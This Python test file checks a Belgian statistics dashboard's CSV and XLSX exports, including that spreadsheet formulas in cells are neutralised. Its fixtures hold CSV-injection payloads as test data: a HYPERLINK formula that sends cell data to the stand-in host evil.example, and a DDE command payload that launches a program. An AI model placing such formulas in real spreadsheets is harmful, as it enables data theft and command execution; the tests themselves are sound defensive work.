"""dashboard.exports.tables: CSV/XLSX bytes read back with pandas/openpyxl, formula neutralisation, the About sheet."""
from __future__ import annotations

import io

import pandas as pd
from openpyxl import load_workbook

from dashboard.exports import tables as export
from dashboard.exports.tables import OBS_COLUMNS
from dashboard.model import sources as sources_view
from dashboard.model.quality import quality_of
from dashboard.text.i18n import translator

MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _sources() -> pd.DataFrame:
    return pd.DataFrame([
        {"source_id": "SRC_A", "publisher": "Statbel", "title": "Population on 1 January", "url": "https://statbel.fgov.be/x",
         "reference_date": "2024-01-01", "licence": "Open data licence Statbel", "notes": None, "quality": "official",
         "retrieved": None},
        {"source_id": "SRC_EX", "publisher": "Example publisher", "title": "Made-up figures", "url": None,
         "reference_date": None, "licence": "CC0 example", "notes": "+cmd|' /C calc'!A0", "quality": "example",
         "retrieved": None},
    ]).set_index("source_id", drop=False)


def _indicators() -> pd.DataFrame:
    rows = []
    for iid, q, src in [("pop", "official", "SRC_A"), ("ex_jobs", "example", "SRC_EX")]:
        rows.append({"indicator_id": iid, "topic": "context" if iid == "pop" else "tip1", "quality": q,
                     "source_ids": src, "label_fr": f"{iid} fr", "label_nl": f"{iid} nl", "label_en": f"{iid} en",
                     "unit_fr": "personnes", "unit_nl": "personen", "unit_en": "persons",
                     "description_fr": "déf", "description_nl": "def", "description_en": "Definition en",
                     "decimals": 0, "n_communes": 2, "n_obs": 3})
    return pd.DataFrame(rows).set_index("indicator_id", drop=False)


def _communes() -> pd.DataFrame:
    return pd.DataFrame({"nis_code": ["21001", "21004", "04000"], "name_fr": ["Anderlecht", "Bruxelles", "Région"],
                         "name_nl": ["Anderlecht", "Brussel", "Gewest"], "name_en": ["Anderlecht", "Brussels", "Region"],
                         "level": ["commune", "commune", "region"]})


def _obs() -> pd.DataFrame:
    return pd.DataFrame({
        "indicator_id": ["pop", "pop", "pop", "ex_jobs"],
        "nis_code": ["21001", "21004", "04000", "21001"], "year": [2023, 2023, 2023, 2022],
        "value": [126000.0, -5.5, 1240000.0, 12.0],
        "source_id": ["SRC_A", "SRC_A", "SRC_A", "SRC_EX"], "source_ids": ["SRC_A", "SRC_A", "SRC_A", "SRC_EX"],
        "quality": ["official", "official", "official", "example"], "ref_period": ["1 Jan 2023", None, None, None],
        "note": [None, MALICIOUS, "@SUM(1+1)", "-2 vs last year"],
    })


def _scoped() -> pd.DataFrame:
    return pd.DataFrame({"scoped_id": [1], "scope": ["Wallonia + Brussels"], "nis_code": [None], "indicator_id": ["pop"],
                         "year": [None], "value": [42.0], "source_id": ["SRC_A"], "source_ids": ["SRC_A"],
                         "quality": ["reported"], "ref_period": ["undated"], "note": ["=1+1"], "input_file": ["x.csv"]})


def test_neutralise():
    assert export.neutralise("=1+1") == "'=1+1"
    assert export.neutralise("+32 2 123") == "'+32 2 123"
    assert export.neutralise("-x") == "'-x"
    assert export.neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert export.neutralise("Anderlecht") == "Anderlecht"
    assert export.neutralise(-5.5) == -5.5
    assert export.neutralise(None) is None


def test_indicator_csv_columns_values_and_safety():
    ind = _indicators()
    obs = _obs()
    pop = obs[obs["indicator_id"] == "pop"].drop(columns="indicator_id")  # as db.observations returns it
    frame = export.observations_frame(pop, ind.loc[["pop"]], _communes(), _sources(), "nl")
    back = pd.read_csv(io.BytesIO(export.to_csv(frame)), dtype={"nis_code": str})
    for col in ["nis_code", "name_fr", "name_nl", "year", "value", "unit", "indicator_label", "source_ids",
                "source_publisher", "source_title", "licence", "quality", "ref_period", "note"]:
        assert col in back.columns, col
    assert list(back["nis_code"]) == ["21001", "21004", "04000"]
    assert back.loc[1, "name_nl"] == "Brussel" and back.loc[1, "name_fr"] == "Bruxelles"
    assert back.loc[0, "value"] == 126000.0
    assert back.loc[1, "value"] == -5.5  # numbers stay numbers (a negative value is not "neutralised")
    assert back.loc[0, "unit"] == "personen" and back.loc[0, "indicator_label"] == "pop nl"
    assert set(back["licence"]) == {"Open data licence Statbel"}
    assert set(back["source_publisher"]) == {"Statbel"}
    assert back.loc[1, "note"] == "'" + MALICIOUS
    assert back.loc[2, "note"] == "'@SUM(1+1)"
    assert not back["note"].dropna().str.match(r"^[=+\-@]").any()
    assert export.to_csv(frame).startswith(b"nis_code,")  # header first, no comment lines


def test_belgian_excel_csv_semicolons_decimal_commas_bom():
    ind, obs = _indicators(), _obs()
    pop = obs[obs["indicator_id"] == "pop"].drop(columns="indicator_id")
    frame = export.observations_frame(pop, ind.loc[["pop"]], _communes(), _sources(), "fr")
    frame.loc[0, "value"] = 1234.5
    data = export.to_csv_be(frame)
    assert data.startswith(b"\xef\xbb\xbfnis_code;name_fr;")       # BOM, ';' header first
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[1].split(";")[OBS_COLUMNS.index("value")] == "1234,5"   # decimal comma, no thousands mark
    # what Excel in fr-BE / nl-BE reads: the same table, numbers as numbers, text unchanged
    back = pd.read_csv(io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig", dtype={"nis_code": str})
    standard = pd.read_csv(io.BytesIO(export.to_csv(frame)), dtype={"nis_code": str})
    pd.testing.assert_frame_equal(back, standard)
    assert back.loc[1, "value"] == -5.5 and back.loc[1, "note"] == "'" + MALICIOUS   # formulas neutralised
    assert export.be_file_name("bsim_pop_fr.csv") == "bsim_pop_fr_excel-be.csv"


def test_indicator_xlsx_about_and_formula_safety():
    ind, obs = _indicators(), _obs()
    frame = export.observations_frame(obs, ind, _communes(), _sources(), "fr")
    about = export.about_rows("fr", title="Test", data_date="27 nov. 2026", sources=_sources(),
                              source_ids=export.used_source_ids(frame), example=quality_of(frame).is_example)
    data = export.to_xlsx({"Data": frame}, about)
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Data", "About"]
    ws = wb["Data"]
    header = [c.value for c in ws[1]]
    assert header == export.OBS_COLUMNS
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not any(c.data_type == "f" for c in cells)  # no formula anywhere
    notes = [r[header.index("note")] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert "'" + MALICIOUS in notes
    values = [r[header.index("value")] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert -5.5 in values and 126000 in values
    qualities = [r[header.index("quality")] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert "example" in qualities
    about_text = "\n".join(" ".join(str(v) for v in r if v is not None) for r in wb["About"].iter_rows(values_only=True))
    assert "Open data licence Statbel" in about_text and "CC0 example" in about_text
    assert "EXAMPLE" in about_text
    assert "27 nov. 2026" in about_text
    assert "officiel" in about_text  # quality tiers explained in the export's language
    # the source notes cell of the About sheet is neutralised too
    assert not any(c.data_type == "f" for row in wb["About"].iter_rows() for c in row)
    # pandas reads it back as well
    back = pd.read_excel(io.BytesIO(data), sheet_name="Data", dtype={"nis_code": str})
    assert back.loc[back["nis_code"] == "21004", "name_nl"].iloc[0] == "Brussel"


def test_no_example_mark_without_example_rows():
    ind, obs = _indicators(), _obs()
    frame = export.observations_frame(obs[obs["quality"] != "example"], ind, _communes(), _sources(), "en")
    assert not quality_of(frame).is_example
    about = export.about_rows("en", title="T", data_date="d", sources=_sources(),
                              source_ids=export.used_source_ids(frame), example=False)
    assert not any(r and r[0] == "EXAMPLE" for r in about)


def test_everything_csv_and_xlsx_with_scoped():
    ind, src = _indicators(), _sources()
    obs = export.observations_frame(_obs(), ind, _communes(), src, "en")
    sc = export.scoped_frame(_scoped(), ind, src, _communes(), "en")
    allf = export.everything_frame(obs, sc)
    back = pd.read_csv(io.BytesIO(export.to_csv(allf)), dtype={"nis_code": str})
    assert set(back["table"]) == {"observation", "scoped_observation"}
    s = back[back["table"] == "scoped_observation"].iloc[0]
    assert s["scope"] == "Wallonia + Brussels" and s["value"] == 42.0 and pd.isna(s["year"])
    assert s["note"] == "'=1+1" and s["licence"] == "Open data licence Statbel"
    assert (back.loc[back["quality"] == "example", "quality"] == "example").all() and (back["quality"] == "example").any()
    about = export.about_rows("en", title="All", data_date="d", sources=src,
                              source_ids=export.used_source_ids(obs, sc), example=quality_of(obs, sc).is_example)
    wb = load_workbook(io.BytesIO(export.to_xlsx({"Observations": obs, "Scoped figures": sc}, about)))
    assert wb.sheetnames == ["Observations", "Scoped figures", "About"]
    assert wb["Scoped figures"].max_row == 2
    assert [c.value for c in wb["Scoped figures"][1]] == export.SCOPED_COLUMNS


def test_catalogue_and_filter():
    ind, src = _indicators(), _sources()
    cat = sources_view.catalogue(ind, src, _obs(), "nl")
    _ = translator("nl")
    assert list(cat["topic_label"]) == [_("Context"), _("Tip {n}", n=1)]
    row = cat.set_index("indicator_id").loc["pop"]
    assert row["years"] == "2023" and row["licence"] == "Open data licence Statbel"
    assert row["sources"] == "Statbel — Population on 1 January"
    assert len(sources_view.filter_catalogue(cat, "statbel")) == 1
    assert len(sources_view.filter_catalogue(cat, "", "tip1")) == 1
    assert len(sources_view.filter_catalogue(cat, "nothing-like-this")) == 0


def test_file_name():
    assert sources_view.file_name("population_1jan", "nl", "csv") == "bsim_population_1jan_nl.csv"
